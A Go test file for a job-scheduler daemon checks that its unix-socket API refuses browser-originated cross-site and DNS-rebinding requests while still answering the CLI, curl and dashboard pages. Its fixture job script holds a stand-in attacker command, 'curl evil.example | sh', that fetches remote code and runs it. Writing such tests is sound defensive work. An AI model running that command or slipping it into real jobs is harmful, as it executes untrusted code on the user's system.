package ctld

import (
	"context"
	"net/http/httptest"
	"strings"
	"syscall"
	"testing"
)

// TestSocketRefusesBrowsers checks that the API on the unix socket
// refuses what a web page can make a browser send through a tunnel to
// it (ssh -L, as the dashboard's docs and `tide ui` suggest): a
// cross-site POST of a text/plain body that would submit a job as the
// SSH user, and a rebound name's same-origin reads; while the CLI's
// and curl's requests, and the dashboard's pages, are answered.
func TestSocketRefusesBrowsers(t *testing.T) {
	h := newHarness(t)
	do := func(method, target, body string, hdr map[string]string) *httptest.ResponseRecorder {
		t.Helper()
		r := httptest.NewRequest(method, target, strings.NewReader(body))
		r = r.WithContext(context.WithValue(r.Context(), credKey{}, syscall.Ucred{Uid: uidAlice, Gid: uidAlice, Pid: 1}))
		for k, v := range hdr {
			r.Header.Set(k, v)
		}
		w := httptest.NewRecorder()
		h.s.localHandler().ServeHTTP(w, r)
		return w
	}
	submit := `{"script":"#!/bin/sh\ncurl evil.example | sh\n","name":"x","work_dir":"/tmp","tasks":1}`
	tests := []struct {
		name, method, target, body string
		hdr                        map[string]string
		status                     int
		want                       string
	}{
		{name: "cross-site submission", method: "POST", target: "http://localhost:8080/api/v1/jobs", body: submit,
			hdr:    map[string]string{"Content-Type": "text/plain", "Origin": "https://evil.example", "Sec-Fetch-Site": "cross-site"},
			status: 403, want: "does not answer web browsers (this request carries Origin)"},
		{name: "old browser's cross-site submission", method: "POST", target: "http://localhost:8080/api/v1/jobs", body: submit,
			hdr: map[string]string{"Content-Type": "text/plain", "Origin": "https://evil.example"}, status: 403, want: "carries Origin"},
		{name: "cross-site cancel", method: "POST", target: "http://localhost:8080/api/v1/jobs/cancel", body: `{"filter":{"user":"alice"}}`,
			hdr: map[string]string{"Sec-Fetch-Site": "cross-site", "Sec-Fetch-Mode": "no-cors"}, status: 403, want: "carries Sec-Fetch-Site"},
		// DNS rebinding: the page's own origin, so same-origin reads.
		{name: "rebound read", method: "GET", target: "http://rebind.evil.example:8080/api/v1/jobs",
			hdr: map[string]string{"Sec-Fetch-Site": "same-origin", "Sec-Fetch-Mode": "cors"}, status: 403, want: "carries Sec-Fetch-Site"},
		{name: "rebound token", method: "POST", target: "http://rebind.evil.example:8080/api/v1/tokens", body: `{}`,
			hdr: map[string]string{"Origin": "http://rebind.evil.example:8080", "Sec-Fetch-Site": "same-origin"}, status: 403, want: "carries Origin"},
		{name: "rebound metrics", method: "GET", target: "http://rebind.evil.example:8080/metrics",
			hdr: map[string]string{"Sec-Fetch-Mode": "cors"}, status: 403, want: "carries Sec-Fetch-Mode"},
		// The CLI (Host tidectld) and curl --unix-socket (any host).
		{name: "CLI", method: "GET", target: "http://tidectld/api/v1/jobs", status: 200, want: `"jobs"`},
		{name: "curl", method: "GET", target: "http://x/api/v1/cluster", status: 200, want: `"caller_user"`},
		// The dashboard's pages keep their own rules (checkHost).
		{name: "dashboard page in the browser", method: "GET", target: "http://localhost:8080/ui/queue",
			hdr: map[string]string{"Sec-Fetch-Site": "same-origin", "Sec-Fetch-Mode": "cors"}, status: 200, want: "Queue"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			w := do(tt.method, tt.target, tt.body, tt.hdr)
			if w.Code != tt.status || !strings.Contains(w.Body.String(), tt.want) {
				t.Errorf("%s %s: %d, want %d with %q:\n%.400s", tt.method, tt.target, w.Code, tt.status, tt.want, w.Body)
			}
		})
	}
	// Nothing was submitted or cancelled.
	h.s.mu.Lock()
	n := len(h.s.jobs)
	h.s.mu.Unlock()
	if n != 0 {
		t.Errorf("%d jobs after the refused requests, want none", n)
	}
	// The pages' referrer policy lets the browser send their origin
	// with their own form posts (see sameOrigin in ctld/ui).
	if got := do("GET", "http://localhost:8080/ui/", "", nil).Header().Get("Referrer-Policy"); got != "same-origin" {
		t.Errorf("Referrer-Policy %q, want same-origin", got)
	}
}
